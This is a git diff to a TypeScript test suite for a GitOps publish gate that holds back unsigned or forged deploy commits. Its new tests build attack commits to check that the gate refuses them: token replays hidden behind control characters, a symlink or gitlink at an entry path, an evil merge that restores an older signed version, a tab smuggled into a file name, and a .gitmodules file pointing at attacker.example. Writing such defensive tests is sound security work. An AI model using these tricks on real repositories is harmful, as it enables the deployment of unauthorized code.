@@ -9,7 +9,7 @@ import * as path from "node:path";
 import { beforeAll, describe, expect, it } from "vitest";
 import { ID_TOKEN_ENV } from "../../cli/services/id-token";
 import { GitLabIdTokens, GITLAB_ISSUER, SERVICES_GROUP } from "../harness/gitlab-id-tokens";
-import { cli, expectedFile, seededRepo, sha, tempDir, testTeam, type CliResult, type SeededRepo } from "./helpers";
+import { cli, expectedFile, seededRepo, sha, teamFileContent, tempDir, testTeam, type CliResult, type SeededRepo } from "./helpers";
 
 const OWNER = { team: "checkout", domain: "services" } as const;
 const INTRUDER = { team: "intruders", domain: "payments" } as const;
@@ -53,6 +53,7 @@ function pushRaw(repo: SeededRepo, files: Record<string, string | null>, message
     if (content === null) git("rm", "-q", file);
     else {
       fs.mkdirSync(path.dirname(path.join(work, file)), { recursive: true });
+      fs.rmSync(path.join(work, file), { force: true }); // a symlink an earlier attack left is replaced, never written through
       fs.writeFileSync(path.join(work, file), content);
       git("add", file);
     }
@@ -63,6 +64,9 @@ function pushRaw(repo: SeededRepo, files: Record<string, string | null>, message
 }
 
 const ENTRY = "staging/python-example.json";
+
+/** The platform admins' first publish of a reviewed main (services-root README, set-up): `git push origin main:published`. */
+const initPublished = (repo: SeededRepo): void => void execFileSync("git", ["--git-dir", repo.dir, "update-ref", "refs/heads/published", "main"]);
 const lastMessage = (repo: SeededRepo, file: string): string =>
   execFileSync("git", ["--git-dir", repo.dir, "log", "-1", "--format=%B", "main", "--", file]).toString().trimEnd();
 
@@ -72,6 +76,7 @@ describe("the publish gate, service by service", () => {
   const good = sha("python-example good");
   beforeAll(async () => {
     repo = seededRepo([], [testTeam(["python-example"], OWNER), testTeam(["evil"], INTRUDER)]);
+    initPublished(repo);
     ownToken = tokens.forService("python-example");
     expect((await deployAs(ownToken, repo, "python-example", good)).code).toBe(0);
     const first = await publish(repo, "--json");
@@ -79,7 +84,7 @@ describe("the publish gate, service by service", () => {
     expect(JSON.parse(first.stdout)).toMatchObject({ status: "published", refused: [] });
   });
 
-  it("publishes a service's own deploy and the team files, each exactly as on main", () => {
+  it("publishes a service's own deploy exactly as on main, and the team files an admin vouched for", () => {
     expect(publishedFile(repo, ENTRY)).toBe(expectedFile("staging", "python-example", good, good, OWNER));
     expect(publishedFile(repo, "teams/checkout.json")).toBe(`${JSON.stringify(testTeam(["python-example"], OWNER), null, 2)}\n`);
     expect(lastMessage(repo, ENTRY)).toMatch(/\n\nHolodeck-Id-Token: [\w-]+\.[\w-]+\.[\w-]+$/);
@@ -101,7 +106,7 @@ describe("the publish gate, service by service", () => {
           `deploy\n\nHolodeck-Id-Token: ${ownToken}\n`,
         );
       },
-      /is used by 2 commits; a token proves one write/,
+      /^its token was already used by [0-9a-f]{40}: a token proves one write$/,
     ],
     [
       "a token the attacker signed with a key of its own",
@@ -127,7 +132,7 @@ describe("the publish gate, service by service", () => {
     [
       "a commit without a token (the shared token's bare push)",
       () => deployAs(undefined, repo, "python-example", sha("evil 6")),
-      /its last change carries no GitLab ID token/,
+      /^it carries no GitLab ID token/,
     ],
     [
       "the service's own pipeline writing a file the ApplicationSet cannot read (one bad entry would stop every service's generation)",
@@ -143,6 +148,45 @@ describe("the publish gate, service by service", () => {
           `deploy\n\nHolodeck-Id-Token: ${tokens.forService("python-example")}\n`,
         ),
       /^staging\/python-example.json: team: is "intruders" but teams\/checkout.json lists "python-example"; expected "checkout"$/,
+    ],
+    [
+      "a symlink at the entry's path, signed by the service itself",
+      () => {
+        const work = path.join(tempDir("symlink"), "w");
+        execFileSync("git", ["clone", "-q", repo.url, work]);
+        fs.rmSync(path.join(work, ENTRY));
+        fs.symlinkSync("../teams/checkout.json", path.join(work, ENTRY));
+        const git = (...args: string[]): string =>
+          execFileSync("git", ["-c", "user.name=x", "-c", "user.email=x@example.dev", ...args], { cwd: work, env: { ...process.env, LC_ALL: "C" } }).toString();
+        git("add", "-A");
+        git("commit", "-q", "-m", `link\n\nHolodeck-Id-Token: ${tokens.forService("python-example")}\n`);
+        git("push", "-q", "origin", "HEAD:main");
+      },
+      /^is not a regular file \(mode 120000\); only 100644 files are published$/,
+    ],
+    [
+      "a replay hiding behind control characters in the message (a log parser would split there)",
+      () =>
+        pushRaw(
+          repo,
+          { [ENTRY]: expectedFile("staging", "python-example", sha("evil 8"), sha("evil 8"), OWNER) },
+          `deploy\x1f\x1e\n\nHolodeck-Id-Token: ${ownToken}\n`,
+        ),
+      /^its token was already used by [0-9a-f]{40}: a token proves one write$/,
+    ],
+    [
+      "a gitlink at the entry's path, signed by the service itself (reading it as a file would stop the gate)",
+      () => {
+        const work = path.join(tempDir("gitlink"), "w");
+        const git = (...args: string[]): string =>
+          execFileSync("git", ["-c", "user.name=x", "-c", "user.email=x@example.dev", ...args], { cwd: work, env: { ...process.env, LC_ALL: "C" } }).toString();
+        execFileSync("git", ["clone", "-q", repo.url, work]);
+        git("rm", "-q", "--cached", ENTRY);
+        git("update-index", "--add", "--cacheinfo", `160000,${sha("submodule")},${ENTRY}`);
+        git("commit", "-q", "-m", `link\n\nHolodeck-Id-Token: ${tokens.forService("python-example")}\n`);
+        git("push", "-q", "origin", "HEAD:main");
+      },
+      /^is not a regular file \(mode 160000\); only 100644 files are published$/,
     ],
     [
       "another service's pipeline deletes the entry",
@@ -162,7 +206,7 @@ describe("the publish gate, service by service", () => {
     expect(report.accepted.map((a) => a.path)).toEqual(["staging/evil.json"]);
     expect(report.refused.map((r) => r.path)).toEqual([ENTRY]);
     expect(report.refused[0].refused).toMatch(reason);
-    expect(result.stderr).toContain(`withheld ${ENTRY}: last changed by `);
+    expect(result.stderr).toContain(`withheld ${ENTRY}: changed by `);
     expect(publishedFile(repo, ENTRY)).toBe(expectedFile("staging", "python-example", good, good, OWNER));
     expect(publishedFile(repo, "staging/evil.json")).toBe(expectedFile("staging", "evil", evilTag, evilTag, INTRUDER));
   });
@@ -202,15 +246,144 @@ describe("the publish gate's input", () => {
     expect(publishedFile(repo, "teams/checkout.json")).toBeUndefined();
   });
 
-  it("publishes a hand edit only when a platform admin pushes it to published: the gate then sees nothing to withhold", async () => {
+  it("publishes a hand edit only when a platform admin vouches for its commit", async () => {
     const repo = seededRepo(["python-example"]);
+    initPublished(repo);
     const tag = sha("hand edit");
-    pushRaw(repo, { [ENTRY]: expectedFile("staging", "python-example", tag) }, "hand edit (merge request !7)");
+    const edit = pushRaw(repo, { [ENTRY]: expectedFile("staging", "python-example", tag) }, "hand edit (merge request !7)");
     const withheld = await publish(repo);
     expect(withheld.code).toBe(1);
+    expect(withheld.stderr).toBe(
+      `withheld ${ENTRY}: changed by ${edit.slice(0, 12)}: it carries no GitLab ID token (a hand edit: a platform admin publishes it: holodeck services publish --accept ${edit})\n`,
+    );
     expect(publishedFile(repo, ENTRY)).toBeUndefined();
-    execFileSync("git", ["--git-dir", repo.dir, "update-ref", "refs/heads/published", "main"]); // the admin's push of main to published
+    expect((await publish(repo, "--accept", edit)).code).toBe(0);
+    expect(publishedFile(repo, ENTRY)).toBe(expectedFile("staging", "python-example", tag));
+  });
+
+  it("refuses --accept of a commit that is not on main (exit 2), publishing nothing", async () => {
+    const repo = seededRepo(["python-example"]);
+    initPublished(repo);
+    const tip = execFileSync("git", ["--git-dir", repo.dir, "rev-parse", "published"]).toString().trim();
+    const result = await publish(repo, "--accept", sha("elsewhere"));
+    expect(result).toEqual({ code: 2, stdout: "", stderr: `holodeck: --accept ${sha("elsewhere")}: not a commit of the source branch\n` });
+    expect(execFileSync("git", ["--git-dir", repo.dir, "rev-parse", "published"]).toString().trim()).toBe(tip);
+  });
+
+  it("never rebuilds a missing published branch by itself (it would drop every hand-published entry): exit 2, naming the admin's step", async () => {
+    const repo = seededRepo(["python-example"]);
+    expect(await publish(repo)).toEqual({
+      code: 2,
+      stdout: "",
+      stderr:
+        "holodeck: published does not exist: a platform admin creates it once from a reviewed main: git push origin main:published (services-root README, set-up)\n",
+    });
+  });
+});
+
+describe("a merge that brings back an older signed version", () => {
+  it("is judged as the merge's own change, unsigned: withheld, where history simplification would have named the old signed commit", async () => {
+    const repo = seededRepo([], [testTeam(["python-example"], OWNER)]);
+    initPublished(repo);
+    const [older, newer] = [sha("older"), sha("newer")];
+    expect((await deployAs(tokens.forService("python-example"), repo, "python-example", older)).code).toBe(0);
+    const signedOlder = execFileSync("git", ["--git-dir", repo.dir, "rev-parse", "main"]).toString().trim();
+    expect((await deployAs(tokens.forService("python-example"), repo, "python-example", newer)).code).toBe(0);
+    expect((await publish(repo)).code).toBe(0);
+    const work = path.join(tempDir("merge"), "w");
+    const git = (...args: string[]): string =>
+      execFileSync("git", ["-c", "user.name=intruder", "-c", "user.email=i@example.dev", ...args], {
+        cwd: work,
+        env: { ...process.env, LC_ALL: "C" },
+      }).toString();
+    execFileSync("git", ["clone", "-q", repo.url, work]);
+    git("checkout", "-q", "-b", "old", signedOlder);
+    git("commit", "-q", "--allow-empty", "-m", "side"); // a side branch, so the merge has two parents
+    git("checkout", "-q", "main");
+    // an evil merge: the entry as the older signed commit had it, so the merge is TREESAME to that side
+    git("merge", "-q", "--no-ff", "--no-commit", "-s", "ours", "old");
+    git("checkout", "old", "--", ENTRY);
+    git("commit", "-q", "-m", "merge");
+    git("push", "-q", "origin", "HEAD:main");
+    const merge = git("rev-parse", "HEAD").trim();
+    expect(execFileSync("git", ["--git-dir", repo.dir, "log", "-1", "--format=%H", "main", "--", ENTRY]).toString().trim()).toBe(signedOlder);
+    const result = await publish(repo, "--json");
+    expect(result.code).toBe(1);
+    expect((JSON.parse(result.stdout) as { refused: unknown[] }).refused).toEqual([
+      {
+        path: ENTRY,
+        commit: merge,
+        refused: `it is a merge (changes a merge brings are unsigned: a platform admin publishes it: holodeck services publish --accept ${merge})`,
+      },
+    ]);
+    expect(publishedFile(repo, ENTRY)).toBe(expectedFile("staging", "python-example", newer, newer, OWNER));
+  });
+});
+
+describe("team files and other paths through the gate", () => {
+  it("withholds a team file pushed with the shared token: moving another team's service needs the admins", async () => {
+    const repo = seededRepo([], [testTeam(["python-example"], OWNER), testTeam(["evil"], INTRUDER)]);
+    initPublished(repo);
+    const grab = pushRaw(
+      repo,
+      { "teams/intruders.json": teamFileContent(testTeam(["evil", "python-example"], INTRUDER)), "teams/checkout.json": teamFileContent(testTeam([], OWNER)) },
+      `move\n\nHolodeck-Id-Token: ${tokens.forService("evil")}\n`,
+    );
+    const result = await publish(repo, "--json");
+    expect(result.code).toBe(1);
+    const report = JSON.parse(result.stdout) as { refused: { path: string; refused: string }[] };
+    expect(report.refused).toEqual([
+      {
+        path: "teams/checkout.json",
+        commit: grab,
+        refused: `team files change only by merge request; a platform admin publishes it: holodeck services publish --accept ${grab}`,
+      },
+      {
+        path: "teams/intruders.json",
+        commit: grab,
+        refused: `team files change only by merge request; a platform admin publishes it: holodeck services publish --accept ${grab}`,
+      },
+    ]);
+    expect(publishedFile(repo, "teams/intruders.json")).toBe(teamFileContent(testTeam(["evil"], INTRUDER)));
+  });
+
+  it("withholds team files an admin vouched for when together they are invalid (a service in two teams)", async () => {
+    const repo = seededRepo([], [testTeam(["python-example"], OWNER), testTeam(["evil"], INTRUDER)]);
+    initPublished(repo);
+    const both = pushRaw(repo, { "teams/intruders.json": teamFileContent(testTeam(["evil", "python-example"], INTRUDER)) }, "merge request !8");
+    const result = await publish(repo, "--json", "--accept", both);
+    expect(result.code).toBe(1);
+    const report = JSON.parse(result.stdout) as { refused: { path: string; refused: string }[] };
+    expect(report.refused.map((r) => r.path)).toEqual(["teams/intruders.json"]);
+    expect(report.refused[0].refused).toMatch(/^the team files would be invalid: teams\/intruders.json: services\/1\/name: .*python-example/);
+    expect(publishedFile(repo, "teams/intruders.json")).toBe(teamFileContent(testTeam(["evil"], INTRUDER)));
+  });
+
+  it("never publishes a path that only looks like an entry (a tab in its name, a nested folder Argo CD's glob would match)", async () => {
+    const repo = seededRepo(["python-example"]);
+    initPublished(repo);
+    const fake = expectedFile("staging", "python-example", sha("fake"));
+    pushRaw(repo, { [`${ENTRY}\tx`]: fake, "staging/x/python-example.json": fake }, `sneak\n\nHolodeck-Id-Token: ${tokens.forService("python-example")}\n`);
+    expect(await publish(repo)).toEqual({ code: 0, stdout: "nothing new to publish: 0 entries accepted, 0 withheld\n", stderr: "" });
+    expect(execFileSync("git", ["--git-dir", repo.dir, "ls-tree", "-r", "--name-only", "published"]).toString()).toBe("teams/checkout.json\n");
+  });
+
+  it("publishes a deploy even when another pipeline re-used its token in a later commit (no way to block another team)", async () => {
+    const repo = seededRepo(["python-example", "evil"]);
+    initPublished(repo);
+    const token = tokens.forService("python-example");
+    const tag = sha("deploy before the replay");
+    expect((await deployAs(token, repo, "python-example", tag)).code).toBe(0);
+    pushRaw(repo, { "README.md": "x\n" }, `noise\n\nHolodeck-Id-Token: ${token}\n`);
     expect((await publish(repo)).code).toBe(0);
     expect(publishedFile(repo, ENTRY)).toBe(expectedFile("staging", "python-example", tag));
+  });
+
+  it("never publishes what Argo CD does not read (.gitmodules, README, the pipeline), so none of it can reach the repo-server", async () => {
+    const repo = seededRepo(["python-example"]);
+    initPublished(repo);
+    pushRaw(repo, { ".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = https://attacker.example/x.git\n', "README.md": "hi\n" }, "extras");
+    expect(await publish(repo)).toEqual({ code: 0, stdout: "nothing new to publish: 0 entries accepted, 0 withheld\n", stderr: "" });
+    expect(publishedFile(repo, ".gitmodules")).toBeUndefined();
   });
 });
